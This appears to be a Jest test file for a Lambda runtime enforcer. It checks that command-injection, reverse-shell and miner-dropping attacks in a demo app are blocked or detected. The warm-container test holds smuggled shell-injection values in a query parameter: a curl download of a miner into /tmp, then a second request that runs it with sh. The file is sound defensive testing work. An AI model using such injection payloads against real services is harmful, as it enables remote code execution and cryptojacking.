// The demo app (examples/demo), synthesized by the real cdk CLI and attacked
// through the local Lambda harness: assertions on effects (did the miner phone
// home? did the listener get a shell? did the credentials leak?) and on the
// enforcer's events, in BLOCK and ALERT modes, cold and warm.
import * as fs from 'node:fs';
import { DocumentServer, ShellListener } from '../examples/demo/attack-lab';
import { DemoRow, runDemo, synthesizeDemo } from '../examples/demo/run-demo';
import { LocalLambda, runtimeClientDir } from '../src/harness';

const assemblies: string[] = [];
afterAll(() => assemblies.forEach((dir) => fs.rmSync(dir, { recursive: true, force: true })));

function synth(mode: 'BLOCK' | 'ALERT'): string {
  const dir = synthesizeDemo(mode);
  assemblies.push(dir);
  return dir;
}

beforeAll(() => runtimeClientDir(), 900_000);

describe('the demo in BLOCK mode', () => {
  let rows: DemoRow[];
  beforeAll(async () => {
    rows = await runDemo(synth('BLOCK'));
  }, 300_000);

  test('every attack succeeds without the enforcer (the functions really are vulnerable)', () => {
    for (const row of rows.filter((r) => r.scenario.attack)) expect([row.scenario.name, row.without.compromised]).toEqual([row.scenario.name, true]);
  });

  test('no attack succeeds with the enforcer, and each is blocked with an event', () => {
    for (const row of rows.filter((r) => r.scenario.attack)) {
      expect([row.scenario.name, row.with.compromised]).toEqual([row.scenario.name, false]);
      expect(row.with.events.length).toBeGreaterThan(0);
      expect(row.with.events.every((e) => e.startsWith('blocked: '))).toBe(true);
    }
  });

  test('legitimate requests give the same result both ways, with no event', () => {
    const legit = rows.filter((r) => !r.scenario.attack);
    expect(legit).toHaveLength(2);
    for (const row of legit) {
      expect(row.with.summary).toBe(row.without.summary);
      expect(row.with.summary).toMatch(/^200 /);
      expect(row.with.events).toEqual([]);
    }
  });
});

describe('the demo in ALERT mode', () => {
  let rows: DemoRow[];
  beforeAll(async () => {
    rows = await runDemo(synth('ALERT'));
  }, 300_000);

  test('lets the command injection through and reports it as detected', () => {
    const row = rows.find((r) => r.scenario.name.startsWith('command injection'))!;
    expect(row.with.compromised).toBe(true);
    expect(row.with.events).toEqual([expect.stringMatching(/^detected: env .* not in the allowlist/)]);
  });

  test('still refuses a shell reading commands from a socket, which cannot be known in advance', () => {
    const row = rows.find((r) => r.scenario.name === 'eval: reverse shell to a listener')!;
    expect(row.with.compromised).toBe(false);
    expect(row.with.events).toEqual([expect.stringMatching(/^blocked: .*stdin/)]);
  });
});

describe('a warm container', () => {
  test('refuses to run on invocation 2 what invocation 1 dropped into /tmp', async () => {
    const assemblyDir = synth('BLOCK');
    const docs = await new DocumentServer().start();
    const listener = await new ShellListener().start();
    const converter = await LocalLambda.fromAssembly({ assemblyDir, functionId: 'NanoEnforcerDemo/DocConverter', enforcer: true });
    try {
      // 1: only curl runs (the rest is a comment): allowed, and it saves the payload in /tmp.
      const drop = await converter.invoke({ queryStringParameters: { document_url: `${docs.url('/miner')} -o /tmp/miner #` } });
      expect(drop.cold).toBe(true);
      expect(drop.events).toEqual([]);
      expect(docs.hits).toEqual(['/miner']);
      // 2: same process, same /tmp: running it is refused, and it never phones home.
      const run = await converter.invoke({ queryStringParameters: { document_url: `${docs.url('/report.doc')}; sh /tmp/miner #` } });
      expect(run.cold).toBe(false);
      expect(run.events).toEqual([expect.objectContaining({ control: 'process', action: 'blocked', requestId: run.requestId })]);
      await new Promise((r) => setTimeout(r, 500));
      expect(docs.minerRan()).toBe(false);
    } finally {
      await converter.stop();
      await docs.stop();
      await listener.stop();
    }
  }, 120_000);
});
